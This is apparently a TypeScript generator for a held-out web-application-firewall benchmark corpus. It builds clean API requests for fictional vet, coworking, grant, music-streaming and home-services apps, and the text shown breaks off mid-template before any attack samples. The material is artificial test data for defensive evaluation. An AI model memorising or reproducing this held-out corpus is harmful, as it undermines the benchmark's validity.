// biome-ignore-all lint/suspicious/noTemplateCurlyInString: payloads hold literal ${…}
/**
 * Held-out WAF corpus 17: clean JSON-API traffic and attacks for eight domains (veterinary clinic & pet
 * insurance, coworking booking & access, nonprofit grants, music streaming, home-services marketplace,
 * data warehouse / BI, support chatbot transcripts, open-source package registry).
 * Run `node bench/waf/corpus/heldout17.ts` to write clean-heldout17.json and attacks-heldout17.json.
 */
import { writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { CorpusRequest } from './generate.ts';

type Hdrs = Record<string, string>;
interface Draft {
  kind: string;
  method: string;
  path: string;
  headers: Hdrs;
  body: string;
}

function mulberry32(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const rnd = mulberry32(0x17c0ffee);
const int = (lo: number, hi: number): number => lo + Math.floor(rnd() * (hi - lo + 1));
const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rnd() * xs.length)] as T;
const hex = (n: number): string => {
  let s = '';
  for (let i = 0; i < n; i++) s += '0123456789abcdef'[int(0, 15)];
  return s;
};
const uuid = (): string => `${hex(8)}-${hex(4)}-4${hex(3)}-${pick(['8', '9', 'a', 'b'])}${hex(3)}-${hex(12)}`;
const b64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');
const b64url = (s: string): string => Buffer.from(s, 'utf8').toString('base64url');
const isoDate = (): string =>
  `2026-${String(int(1, 12)).padStart(2, '0')}-${String(int(1, 28)).padStart(2, '0')}T${String(int(6, 21)).padStart(2, '0')}:${pick(['00', '15', '30', '45'])}:00Z`;
const day = (): string =>
  `2026-${String(int(1, 12)).padStart(2, '0')}-${String(int(1, 28)).padStart(2, '0')}`;
const jwt = (): string =>
  `${b64url('{"alg":"RS256","typ":"JWT","kid":"k' + int(1, 9) + '"}')}.${b64url(`{"sub":"usr_${hex(10)}","scope":"read write","exp":${1790000000 + int(0, 9999999)}}`)}.${b64url(hex(40))}`;
const qs = (o: Record<string, string | number>): string =>
  Object.entries(o)
    .map(([k, v]) => `${encodeURIComponent(k)}=${encodeURIComponent(String(v))}`)
    .join('&');

const UAS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.6723.107 Mobile Safari/537.36',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0',
];
const LANGS = [
  'en-US,en;q=0.9',
  'de-DE,de;q=0.9,en;q=0.8',
  'fr-FR,fr;q=0.9',
  'es-ES,es;q=0.9,en;q=0.6',
  'pt-BR,pt;q=0.9',
  'ja-JP,ja;q=0.9,en;q=0.5',
  'en-GB,en;q=0.8',
];
const SDK_UAS = [
  'okhttp/4.12.0',
  'PawsApp/3.14.2 (iPhone; iOS 18.1; Scale/3.00)',
  'DeskHop/2.8.0 (Android 14; SM-S918B)',
  'python-requests/2.32.3',
  'axios/1.7.7',
  'node-fetch/1.0 (+https://github.com/bitinn/node-fetch)',
  'Go-http-client/2.0',
  'curl/8.7.1',
  'Dart/3.5 (dart:io)',
  'Tunely-Android/5.2.1 (build 5210; Android 13)',
  'dbt/1.8.7 (python 3.11.9)',
  'npm/10.8.2 node/v22.11.0 darwin arm64 workspaces/false',
];

function browser(ct: string | null, site: string): Hdrs {
  const h: Hdrs = {
    'user-agent': pick(UAS),
    accept: 'application/json, text/plain, */*',
    'accept-language': pick(LANGS),
    'accept-encoding': 'gzip, deflate, br, zstd',
    origin: `https://${site}`,
    referer: `https://${site}/${pick(['dashboard', 'app', 'account', 'settings', 'inbox', ''])}`,
    cookie: `sid=${hex(32)}; _ga=GA1.1.${int(100000000, 999999999)}.${int(1700000000, 1790000000)}; theme=${pick(['dark', 'light', 'system'])}`,
    'x-csrf-token': hex(40),
    'sec-fetch-site': 'same-origin',
    'sec-fetch-mode': 'cors',
  };
  if (ct) h['content-type'] = ct;
  return h;
}
function sdk(ct: string | null): Hdrs {
  const h: Hdrs = {
    'user-agent': pick(SDK_UAS),
    accept: 'application/json',
    authorization:
      rnd() < 0.6 ? `Bearer ${jwt()}` : `Bearer ${pick(['sk_live_', 'pat_', 'gh_', 'dwh_'])}${hex(32)}`,
    'x-request-id': uuid(),
  };
  if (ct) h['content-type'] = ct;
  return h;
}
const anyH = (ct: string | null, site: string): Hdrs => (rnd() < 0.55 ? browser(ct, site) : sdk(ct));
const J = 'application/json';
const JU = 'application/json; charset=utf-8';
const js = (o: unknown): string => JSON.stringify(o);

function multipart(parts: { name: string; filename?: string; type?: string; value: string }[]): {
  ct: string;
  body: string;
} {
  const boundary = `----WebKitFormBoundary${b64(hex(12))
    .replace(/[^A-Za-z0-9]/g, '')
    .slice(0, 16)}`;
  let body = '';
  for (const p of parts) {
    body += `--${boundary}\r\nContent-Disposition: form-data; name="${p.name}"`;
    if (p.filename !== undefined) body += `; filename="${p.filename}"`;
    body += '\r\n';
    if (p.type) body += `Content-Type: ${p.type}\r\n`;
    body += `\r\n${p.value}\r\n`;
  }
  body += `--${boundary}--\r\n`;
  return { ct: `multipart/form-data; boundary=${boundary}`, body };
}

// ---------------------------------------------------------------- vocabulary
const PET_NAMES = [
  'Biscuit',
  'Luna',
  'Mochi',
  'Rex',
  'Señor Whiskers',
  'Pepper',
  'Knödel',
  'Ziggy',
  'Nala',
  "O'Malley",
  'Bao',
  'Frida',
];
const SPECIES = ['dog', 'cat', 'rabbit', 'ferret', 'parrot', 'guinea_pig', 'bearded_dragon'];
const PEOPLE = [
  'Ana Souza',
  'Jörg Müller',
  'Priya Raman',
  "Siobhan O'Neill",
  'Kenji Watanabe',
  'Fatima Al-Sayed',
  'Łukasz Nowak',
  'Chloé Dubois',
  'Marcus Lee',
  'Zeynep Kaya',
  "D'Andre Wilson",
  'Mette Kristensen',
];
const CITIES = ['Portland', 'Lyon', 'São Paulo', 'Kraków', 'Osaka', 'Austin', 'Dublin', 'Zürich', 'Toronto'];
const pkgName = (): string =>
  pick([
    '@acme/ui-kit',
    'left-padder',
    'fastjson-lite',
    'py-weasel',
    'tiny-router',
    '@fluxio/core',
    'yaml-guard',
    'hashbrowns',
    'pg-migrate-x',
    'colorette-ng',
  ]);
const semver = (): string =>
  `${int(0, 5)}.${int(0, 20)}.${int(0, 30)}${rnd() < 0.15 ? `-beta.${int(1, 5)}` : ''}`;

// ---------------------------------------------------------------- clean templates
const VET = 'app.pawsandclaws.vet';
const COWORK = 'book.hivedesk.io';
const GRANT = 'apply.commonfund.org';
const MUSIC = 'web.tunely.fm';
const HOME = 'www.fixly.homes';
const BI = 'bi.quarry-analytics.com';
const BOT = 'console.askbeacon.ai';
const PKG = 'registry.pkghub.dev';

const PROSE_EN = [
  "Biscuit threw up twice after the new kibble (the 'grain-free' one) — is that normal or should we come in? He's drinking water fine.",
  'Dr. Patel was amazing!!! 5/5 would recommend. Only complaint: parking lot is a nightmare after 5pm 😅',
  'Claim #CLM-20931 was denied with "pre-existing condition" but the vet notes from 03/2024 say otherwise. Can someone re-check? Attached the PDF.',
  "Booked desk B-12 but the badge reader at the side door says 'ACCESS DENIED' again. Third time this week... select a different door? lol",
  'Wifi in the quiet room drops every ~10 min. ping to 8.8.8.8 shows 30% loss. Router in the corner has a blinking orange light.',
  'The plumber said the drain line needs to be replaced; quote was $450 + parts. Does that include removing the old pipe or is that extra?',
  "Can you come Tuesday between 2 and 4? Gate code is #4471, dog is friendly but loud. Please don't let him out!",
  "This playlist is 🔥 but track 7 is the radio edit, not the original. Also the lyrics for 'Drop Table' by The Queries are out of sync by ~2s",
  "Love the new shuffle. Bug: if I delete a song while it's playing, the queue skips 2 tracks instead of 1.",
  'Dashboard is timing out again. Query runs in 40s in the SQL editor but the tile says "Query exceeded 30s limit". Can we bump it?',
  "Bot kept answering 'I didn't understand that' when I typed my order number with a # in front. Please fix, super frustrating.",
  'Thanks for the quick fix in 2.4.1! FYI `npm audit` still flags the old version because the lockfile pins ^2.3.0 — had to run `npm update` manually.',
  "Our org's mission is to provide after-school STEM programs for 300+ kids in rural counties; we've grown 40% since 2022 & need support for transport.",
  'Please delete my account and all data (GDPR art. 17). I no longer use the service. Thanks.',
  "Where's the receipt for booking #88213? Finance needs it by Friday; the 'Download invoice' button returns a blank page in Safari.",
  "The install script failed with: Error: EACCES: permission denied, mkdir '/usr/local/lib/node_modules' — fixed with sudo but feels wrong?",
  'Re: last message -- yes, the <br> tags show up literally in the email preview. Looks like the template escapes them twice.',
  'Rating: 2 stars. Showed up 3 hours late, left mud on the carpet. The fix itself works though (no more drip from the kitchen tap).',
  "If the cat's insurance covers dental, does that include extractions? Policy doc says 'excluding cosmetic procedures' which is vague.",
  'I ran DROP TABLE on staging by accident lol — no worries, restored from backup. But can we add a confirm dialog in the SQL runner?',
];
const PROSE_INTL = [
  'Mein Hund (Knödel, 7 Jahre) hat seit gestern Durchfall. Kann ich heute noch einen Termin bekommen? Danke!',
  "Bonjour, la salle de réunion « Atelier » était réservée mais quelqu'un l'occupait déjà. Pouvez-vous vérifier ? Merci d'avance.",
  'Olá! O encanador chegou no horário e resolveu o vazamento em 20 minutos. Super recomendo 👍',
  'La canción está genial, pero la letra tiene errores en el segundo verso: «corazón» aparece como «corazon».',
  '猫の保険の請求が「審査中」のまま2週間経っています。状況を教えていただけますか？',
  '새 플레이리스트 공유 링크가 안 열려요. "404 Not Found"라고 나와요.',
  'Пакет не устанавливается: ошибка «integrity checksum failed». Версия 3.2.0, npm 10.',
  'Dzień dobry, czy biurko przy oknie jest dostępne w piątek? Potrzebuję monitora i ładowarki USB-C.',
  'مرحبا، أريد تغيير موعد التطعيم لقطتي إلى الأسبوع القادم من فضلك.',
  'Grazie mille per la risposta! Il bot però continua a rispondere in inglese anche se ho impostato italiano.',
  'Ik heb de offerte ontvangen, maar €1.250 lijkt me veel voor een nieuwe boiler. Is installatie inbegrepen?',
  '這個套件的 README 範例跑不起來，`import { parse } from "yaml-guard"` 會報錯 TypeError。',
  'Merhaba, hibe başvurusunun son tarihi uzatıldı mı? Bütçe tablosunu henüz tamamlayamadık.',
  'Hej! Vi bokade konferensrummet 10–12 men projektorn saknar HDMI-kabel. Kan ni fixa det?',
];

type Tpl = () => Draft;
const T: Tpl[] = [];
const add = (...fs: Tpl[]): void => {
  T.push(...fs);
};

// ---- veterinary clinic & pet insurance
add(
  () => ({
    kind: 'rest-write',
    method: 'POST',
    path: '/api/v2/appointments',
    headers: browser(J, VET),
    body: js({
      clinic_id: `cl_${int(10, 99)}`,
      pet_id: `pet_${hex(8)}`,
      reason: pick([
        'annual checkup + rabies booster',
        'limping on front left leg',
        'ear infection follow-up',
        'dental cleaning (under anesthesia)',
        "won't eat since Sunday",
      ]),
      slot: isoDate(),
      owner_notes: pick(PROSE_EN.slice(0, 3).concat(PROSE_INTL[0] as string)),
      reminders: { sms: rnd() < 0.5, email: true },
    }),
  }),
  () => ({
    kind: 'rest-write',
    method: 'POST',
    path: `/api/v2/pets/${hex(8)}/vitals`,
    headers: sdk(J),
    body: js({
      recorded_at: isoDate(),
      weight_kg: int(20, 450) / 10,
      temp_c: int(375, 395) / 10,
      heart_rate_bpm: int(60, 180),
      resp_rate: int(12, 40),
      body_condition_score: `${int(3, 7)}/9`,
      notes: pick([
        'BCS slightly over, discussed diet',
        'Mild tartar on P4 upper',
        'Owner reports < 1 cup food/day',
        'Temp taken rectally; pt stressed (hissing)',
      ]),
    }),
  }),
  () => ({
    kind: 'cms-html',
    method: 'PUT',
    path: `/api/v2/records/${int(10000, 99999)}/soap`,
    headers: browser(J, VET),
    body: js({
      note: {
        author: `Dr. ${pick(PEOPLE)}`,
        html: pick([
          '<h3>Subjective</h3><p>Owner reports <strong>vomiting x3</strong> over 24h, last episode this morning. No diarrhea.</p><h3>Objective</h3><ul><li>T 39.1°C</li><li>HR 120</li><li>Mild cranial abdominal pain on palpation</li></ul><h3>Plan</h3><ol><li>Maropitant 1 mg/kg SC</li><li>Bland diet 3 days</li><li>Recheck if &gt; 2 more episodes</li></ol>',
          '<p><em>Assessment:</em> Otitis externa AU, cytology: cocci &gt;10/hpf, yeast 5/hpf.</p><p>Rx: <span style="color:#c0392b">Osurnia</span> 1 tube per ear, repeat in 7 days.</p><table><tr><th>Ear</th><th>Finding</th></tr><tr><td>L</td><td>erythema++</td></tr><tr><td>R</td><td>mild</td></tr></table>',
          '<p>Dental COHAT performed. Extracted <strong>104, 204</strong> (fractured, pulp exposure). Radiographs attached &rarr; see <a href="https://app.pawsandclaws.vet/files/rad-2291.dcm" target="_blank" rel="noopener">rad-2291</a>.</p><blockquote>Owner consented to extractions by phone @ 11:42.</blockquote>',
        ]),
      },
      status: pick(['draft', 'final']),
    }),
  }),
  () => ({
    kind: 'multipart',
    method: 'POST',
    path: '/api/v1/claims/attachments',
    ...(() => {
      const m = multipart([
        { name: 'claim_id', value: `CLM-${int(10000, 99999)}` },
        { name: 'document_type', value: pick(['invoice', 'medical_record', 'referral']) },
        {
          name: 'file',
          filename: pick(['invoice_march.pdf', 'Scan 2026-04-02 at 10.11.pdf', 'vet-bill (1).pdf']),
          type: 'application/pdf',
          value: `%PDF-1.7\n%âãÏÓ\n1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj\n${hex(60)}\n%%EOF`,
        },
      ]);
      return { headers: browser(m.ct, VET), body: m.body };
    })(),
  }),
  () => ({
    kind: 'rest-write',
    method: 'POST',
    path: '/api/v1/claims',
    headers: sdk(J),
    body: js({
      policy_number: `PI-${int(100000, 999999)}`,
      pet: {
        name: pick(PET_NAMES),
        species: pick(SPECIES),
        breed: pick(['Labrador Retriever', 'Maine Coon', 'Mixed (shepherd x ?)', 'Dachshund (mini)']),
        dob: day(),
      },
      incident: {
        date: day(),
        type: pick(['illness', 'accident', 'wellness']),
        description: pick(
          PROSE_EN.slice(17, 19).concat([
            'Swallowed a sock. X-ray + endoscopy, removed without surgery.',
            'Hit by bike, fractured radius; splint & 6wk rest.',
          ]),
        ),
      },
      amount_claimed: {
        currency: pick(['USD', 'EUR', 'GBP']),
        value: `${int(80, 4200)}.${pick(['00', '50', '99'])}`,
      },
      bank: { iban_last4: String(int(1000, 9999)) },
    }),
  }),
  () => ({
    kind: 'search',
    method: 'GET',
    path: `/api/v2/pets?${qs({ owner: `usr_${hex(6)}`, species: pick(SPECIES), q: pick(PET_NAMES), sort: '-updated_at', 'page[size]': 25 })}`,
    headers: anyH(null, VET),
    body: '',
  }),
  () => ({
    kind: 'merge-patch',
    method: 'PATCH',
    path: `/api/v1/policies/PI-${int(100000, 999999)}`,
    headers: sdk('application/merge-patch+json'),
    body: js({
      deductible: pick([100, 250, 500]),
      coinsurance_pct: pick([70, 80, 90]),
      addons: { dental: rnd() < 0.5 ? true : null, wellness: true },
      beneficiary: null,
    }),
  }),
  () => ({
    kind: 'webhook',
    method: 'POST',
    path: '/hooks/stripe',
    headers: {
      'user-agent': 'Stripe/1.0 (+https://stripe.com/docs/webhooks)',
      'content-type': JU,
      'stripe-signature': `t=${int(1780000000, 1790000000)},v1=${hex(64)}`,
    },
    body: js({
      id: `evt_${hex(24)}`,
      object: 'event',
      api_version: '2024-06-20',
      created: int(1780000000, 1790000000),
      type: pick(['invoice.paid', 'customer.subscription.updated', 'payment_intent.succeeded']),
      data: {
        object: {
          id: `in_${hex(24)}`,
          object: 'invoice',
          amount_paid: int(1500, 9000),
          currency: 'usd',
          customer: `cus_${hex(14)}`,
          description: 'PawsCare Plus – monthly premium',
          lines: {
            object: 'list',
            data: [{ description: '1 × Accident & Illness (at $42.00 / month)', amount: 4200 }],
          },
          metadata: { policy: `PI-${int(100000, 999999)}` },
        },
      },
      livemode: true,
      pending_webhooks: 1,
      request: { id: null, idempotency_key: uuid() },
    }),
  }),
  () => ({
    kind: 'delete',
    method: 'DELETE',
    path: `/api/v2/appointments/${uuid()}?reason=${encodeURIComponent(pick(['owner cancelled', 'rescheduled', 'pet passed away 💔']))}`,
    headers: anyH(null, VET),
    body: '',
  }),
);

// ---- coworking
add(
  () => ({
    kind: 'rest-write',
    method: 'POST',
    path: '/v1/bookings',
    headers: browser(J, COWORK),
    body: js({
      resource: {
        type: pick(['desk', 'meeting_room', 'phone_booth']),
        id: pick(['B-12', 'R-Atelier', 'PB-3', 'D-204', 'R-Boardroom']),
      },
      start: isoDate(),
      duration_min: pick([30, 60, 90, 240, 480]),
      attendees: [pick(PEOPLE), pick(PEOPLE)],
      title: pick([
        'Sprint planning',
        '1:1 w/ Marta',
        'Investor call (do not disturb!!)',
        'Interview — Sr. Backend Eng',
        'Workshop: "Intro to SQL for marketers"',
      ]),
      amenities: pick([['tv', 'whiteboard'], ['video_conf'], []]),
    }),
  }),
  () => ({
    kind: 'webhook',
    method: 'POST',
    path: '/v1/access/events',
    headers: { 'user-agent': 'Kisi-Webhooks/2.0', 'content-type': J, 'x-kisi-signature': hex(64) },
    body: js({
      event: pick(['unlock.success', 'unlock.denied', 'door.held_open']),
      lock_id: int(1000, 9999),
      lock_name: pick(['Side door (Elm St)', 'Main entrance', 'Bike room']),
      actor: { type: 'user', email: `${pick(['ana', 'k.watanabe', 'marcus'])}@example.com` },
      reason: pick([null, 'outside_schedule', 'credential_expired']),
      occurred_at: isoDate(),
    }),
  }),
  () => ({
    kind: 'merge-patch',
    method: 'PATCH',
    path: `/v1/members/${uuid()}`,
    headers: browser('application/merge-patch+json', COWORK),
    body: js({
      display_name: pick(PEOPLE),
      company: pick(['Acme & Sons, LLC', 'Fjord Studio', null, 'Über Design GmbH']),
      badge: { pin: null },
      preferences: { desk_side: pick(['window', 'quiet']), newsletter: false },
    }),
  }),
  () => ({
    kind: 'cms-html',
    method: 'PUT',
    path: `/v1/admin/spaces/${int(1, 40)}`,
    headers: browser(J, COWORK),
    body: js({
      space: {
        name: pick(['The Atelier', 'Loft 3', 'Garden Room']),
        capacity: int(2, 20),
        description_html: pick([
          '<p>Bright corner room with <strong>floor-to-ceiling windows</strong>, 65" screen and Jabra speakerphone.</p><ul><li>HDMI + USB-C</li><li>Whiteboard wall</li></ul><p><a href="https://book.hivedesk.io/house-rules">House rules</a> apply.</p>',
          '<h2>Quiet zone 🤫</h2><p>No calls, please. Use the <em>phone booths</em> across the hall.</p><img src="https://cdn.hivedesk.io/spaces/quiet.jpg" alt="Quiet zone with plants" width="640">',
        ]),
      },
    }),
  }),
  () => ({
    kind: 'search',
    method: 'GET',
    path: `/v1/availability?${qs({ location: pick(CITIES), date: day(), type: pick(['desk', 'meeting_room']), min_capacity: int(1, 8), 'amenities[]': pick(['tv', 'video_conf', 'standing_desk']) })}`,
    headers: anyH(null, COWORK),
    body: '',
  }),
  () => ({
    kind: 'json-patch',
    method: 'PATCH',
    path: `/v1/bookings/${uuid()}`,
    headers: sdk('application/json-patch+json'),
    body: js([
      { op: 'test', path: '/status', value: 'confirmed' },
      { op: 'replace', path: '/end', value: isoDate() },
      { op: 'add', path: '/attendees/-', value: pick(PEOPLE) },
      { op: 'remove', path: '/catering' },
    ]),
  }),
  () => ({
    kind: 'form',
    method: 'POST',
    path: '/v1/guest-passes',
    headers: browser('application/x-www-form-urlencoded', COWORK),
    body: qs({
      guest_name: pick(PEOPLE),
      guest_email: 'visitor+demo@example.org',
      host: `mem_${hex(6)}`,
      date: day(),
      note: pick([
        'Arriving ~9:30, will wait in lobby',
        'Needs wheelchair access (ramp @ back)',
        'Coffee & tea pls :)',
      ]),
    }),
  }),
  () => ({
    kind: 'delete',
    method: 'DELETE',
    path: `/v1/bookings/${uuid()}`,
    headers: anyH(null, COWORK),
    body: '',
  }),
);

// ---- nonprofit grants
const NARR = [
  "Riverbend Youth Collective serves 312 students (grades 4–8) across three rural counties where the nearest public library is 40+ miles away. Since 2022 we've run after-school robotics, coding & 'maker' clubs; 68% of participants are first-generation students.\n\nThis grant would fund: (1) a second van for transport, (2) two part-time coordinators, and (3) laptops. We'll measure outcomes with pre/post surveys and attendance data (target: >85% retention).",
  'Our food bank distributed 1.2M lbs of food in FY2025, up from 870k in FY2024. Demand spiked after the plant closure in March; lines now start at 6 a.m. The requested $75,000 covers a refrigerated truck lease (24 months) and volunteer coordination software.\n\nRisks: fuel costs; volunteer burnout. Mitigation: rotating schedule + partnership with Northside Church & the county extension office.',
  "Le projet « Jardins Partagés » vise à créer 4 jardins communautaires dans les quartiers nord de Lyon d'ici 2027. Budget total : 48 500 €, dont 30 % de cofinancement municipal. Les habitants participent dès la conception (ateliers, votes).",
  'Problem statement: 1 in 5 adults in the district reads below a 5th-grade level. Approach — small-group tutoring (max 4:1), evening sessions, childcare on site. Evidence: our 2024 pilot (n=46) showed a mean gain of 1.8 grade levels in 9 months; see Appendix B, Table 3.',
];
add(
  () => ({
    kind: 'rest-write',
    method: 'POST',
    path: `/api/applications/${uuid()}/sections/narrative`,
    headers: browser(J, GRANT),
    body: js({
      section: 'project_narrative',
      word_count: int(400, 1500),
      text: pick(NARR),
      autosave: true,
      client_rev: int(1, 90),
    }),
  }),
  () => ({
    kind: 'cms-html',
    method: 'PUT',
    path: `/api/applications/${uuid()}`,
    headers: browser(J, GRANT),
    body: js({
      application: {
        program: pick(['community-health-2026', 'arts-access', 'capacity-building']),
        org_ein: `${int(10, 99)}-${int(1000000, 9999999)}`,
        narrative_html: pick([
          '<p>Over the past <strong>three years</strong>, we have:</p><ul><li>trained 140 peer counselors</li><li>reached 4,000+ households</li></ul><p>See our <a href="https://example.org/annual-report-2025.pdf">2025 annual report</a>.</p>',
          '<h2>Evaluation plan</h2><p>We will track <em>three</em> indicators:</p><ol><li>Attendance (weekly)</li><li>Reading level (DIBELS, Sept &amp; May)</li><li>Family engagement (survey, 1–5 scale)</li></ol><p style="text-align:center">— Logic model attached —</p>',
        ]),
        budget: [
          { line: 'Personnel (2 × 0.5 FTE)', amount: 52000 },
          { line: 'Van lease', amount: 14400 },
          { line: 'Indirect (10%)', amount: 6640 },
        ],
      },
    }),
  }),
  () => ({
    kind: 'multipart',
    method: 'POST',
    path: '/api/uploads',
    ...(() => {
      const m = multipart([
        { name: 'application_id', value: uuid() },
        {
          name: 'label',
          value: pick(['IRS determination letter', 'Board list', 'Budget (xlsx)', 'Letters of support']),
        },
        {
          name: 'file',
          filename: pick(['budget_FY26_v3 FINAL.csv', 'board-members.csv']),
          type: 'text/csv',
          value:
            'line_item,amount,notes\n"Salaries, coordinators",52000,"2 x 0.5 FTE"\nVan lease,14400,24 months @ $600\n"Indirect (10%)",6640,\n',
        },
      ]);
      return { headers: browser(m.ct, GRANT), body: m.body };
    })(),
  }),
  () => ({
    kind: 'graphql',
    method: 'POST',
    path: '/graphql',
    headers: browser(J, GRANT),
    body: js({
      operationName: 'ReviewerScores',
      query:
        'query ReviewerScores($appId: ID!, $round: Int) {\n  application(id: $appId) {\n    id\n    title\n    scores(round: $round) { criterion reviewer { name } value comment }\n  }\n}',
      variables: { appId: uuid(), round: int(1, 3) },
    }),
  }),
  () => ({
    kind: 'rest-write',
    method: 'POST',
    path: `/api/reviews/${uuid()}/comments`,
    headers: browser(J, GRANT),
    body: js({
      score: int(1, 5),
      criterion: pick(['impact', 'feasibility', 'budget']),
      comment: pick([
        'Strong need statement, but the budget justification for "indirect" costs is thin. Ask for breakdown?',
        'Outcomes are vague (what does "improve wellbeing" mean?). Suggest SMART goals.',
        'Excellent — union of community partners & school district is a real strength. Fund at 100%.',
      ]),
    }),
  }),
  () => ({
    kind: 'search',
    method: 'GET',
    path: `/api/opportunities?${qs({ q: pick(['youth STEM', 'food security', 'arts & culture', 'mental health "rural"']), deadline_after: day(), amount_min: pick([5000, 10000, 25000]), region: pick(['US-OR', 'US-TX', 'FR', 'any']) })}`,
    headers: anyH(null, GRANT),
    body: '',
  }),
);

// ---- music streaming
const LYRICS = [
  '[Verse 1]\nI left my keys by the kitchen door\nYou said "don\'t call" but I called some more\n\n[Chorus]\nOh-oh, we\'re running out of time (time)\nSelect the stars and make them mine\n',
  "(Intro)\nYeah, yeah — uh\n\nStreetlights hummin' on a Sunday night\nGot my hands up, everything's alright\n\n[Hook x2]\nDrop it low, let it go\n",
  'Na rua da saudade eu te vi passar\nCom o vento frio querendo me levar\n\n(Refrão)\nÊ, ê, ô — deixa o samba me levar\n',
  'Wir tanzen bis der Morgen kommt\nUnd keiner fragt, was morgen kommt\n\n[Bridge]\nLa-la-la (la-la)\n',
];
add(
  () => ({
    kind: 'rest-write',
    method: 'POST',
    path: '/v3/me/playlists',
    headers: sdk(J),
    body: js({
      name: pick([
        'Sunday chill ☕',
        'gym 💪 (no skips)',
        'Roadtrip 2026',
        'focus / deep work',
        "90's R&B <3",
        'Lo-fi beats to debug to',
      ]),
      description: pick([
        'for when prod is on fire 🔥',
        'songs my dad likes',
        '',
        'collab w/ @marta — add whatever',
      ]),
      public: rnd() < 0.5,
      collaborative: rnd() < 0.3,
    }),
  }),
  () => ({
    kind: 'json-patch',
    method: 'PATCH',
    path: `/v3/playlists/${hex(22)}/tracks`,
    headers: sdk('application/json-patch+json'),
    body: js([
      { op: 'move', from: `/tracks/${int(0, 20)}`, path: `/tracks/${int(0, 20)}` },
      { op: 'add', path: '/tracks/-', value: { uri: `tunely:track:${hex(22)}` } },
      { op: 'remove', path: `/tracks/${int(0, 30)}` },
    ]),
  }),
  () => ({
    kind: 'rest-write',
    method: 'PUT',
    path: `/v3/tracks/${hex(22)}/lyrics`,
    headers: browser(J, MUSIC),
    body: js({
      language: pick(['en', 'pt', 'de']),
      synced: rnd() < 0.5,
      lines: pick(LYRICS),
      source: 'artist-submitted',
      copyright: '© 2026 Quiet Owl Records',
    }),
  }),
  () => ({
    kind: 'graphql',
    method: 'GET',
    path: `/graphql?${qs({ query: 'query Search($q:String!,$n:Int){search(q:$q,first:$n){tracks{id title artist{name} durationMs}}}', variables: js({ q: pick(["don't stop me now", 'AC/DC', 'Sigur Rós', 'beyoncé', 'SELECT * — the band']), n: 20 }), operationName: 'Search' })}`,
    headers: browser(null, MUSIC),
    body: '',
  }),
  () => ({
    kind: 'ndjson',
    method: 'POST',
    path: '/v3/events/playback',
    headers: sdk('application/x-ndjson'),
    body:
      Array.from({ length: int(3, 7) }, () =>
        js({
          ts: isoDate(),
          event: pick(['play', 'pause', 'skip', 'seek', 'complete']),
          track: `tunely:track:${hex(22)}`,
          position_ms: int(0, 240000),
          device: pick(['ios', 'android', 'web', 'carplay']),
          offline: rnd() < 0.1,
        }),
      ).join('\n') + '\n',
  }),
  () => ({
    kind: 'search',
    method: 'GET',
    path: `/v3/search?${qs({ q: pick(['artist:"Sigur Rós"', 'year:1990-1999 genre:grunge', 'lo-fi & chill', "Guns N' Roses", 'café tacvba', '50% off']), type: 'track,album', limit: 20, market: pick(['US', 'BR', 'DE', 'JP']) })}`,
    headers: anyH(null, MUSIC),
    body: '',
  }),
  () => ({
    kind: 'delete',
    method: 'DELETE',
    path: `/v3/me/library/tracks?ids=${Array.from({ length: 3 }, () => hex(22)).join(',')}`,
    headers: sdk(null),
    body: '',
  }),
);

// ---- home services marketplace
add(
  () => ({
    kind: 'rest-write',
    method: 'POST',
    path: '/api/jobs',
    headers: browser(J, HOME),
    body: js({
      category: pick(['plumbing', 'electrical', 'hvac', 'handyman']),
      title: pick([
        'Leaky kitchen faucet',
        'Water heater making knocking noise',
        'Outlet sparks when plugging in',
        'Install ceiling fan (12ft ceiling)',
      ]),
      details: pick(
        PROSE_EN.slice(5, 7).concat([
          "Toilet runs constantly. Already replaced the flapper (Fluidmaster 502), didn't help. Shut-off valve under the sink is stuck.",
          'Breaker #14 trips when microwave + kettle run together. House built 1978, panel is Federal Pacific (yes I know 😬).',
        ]),
      ),
      zip: pick(['97214', '78704', '10025']),
      budget: pick(['<$200', '$200-$500', 'not sure']),
      photos: [`https://cdn.fixly.homes/u/${hex(10)}/IMG_${int(1000, 9999)}.HEIC`],
    }),
  }),
  () => ({
    kind: 'rest-write',
    method: 'POST',
    path: `/api/threads/${uuid()}/messages`,
    headers: sdk(J),
    body: js({
      body: pick(
        PROSE_EN.slice(5, 7).concat(PROSE_INTL.slice(2, 3), PROSE_INTL.slice(10, 11), [
          'I can do Thu 8-10am. Price: $180 flat (labor) + parts at cost. Reply YES to confirm.',
          'Sorry running 15 min late, traffic on I-35 😩',
          'Sent you the invoice — pay via the app or Venmo @mikes-plumbing, whichever',
        ]),
      ),
      client_msg_id: uuid(),
      attachments: [],
    }),
  }),
  () => ({
    kind: 'rest-write',
    method: 'POST',
    path: `/api/jobs/${uuid()}/quotes`,
    headers: sdk(J),
    body: js({
      pro_id: `pro_${hex(8)}`,
      line_items: [
        { desc: 'Labor (2h @ $95/h)', amount: 190 },
        { desc: '1/2" PEX + SharkBite fittings', amount: 38.5 },
        { desc: 'Trip fee', amount: 45 },
      ],
      valid_until: day(),
      terms: '50% deposit; remainder on completion. Warranty: 1 yr parts & labor.',
    }),
  }),
  () => ({
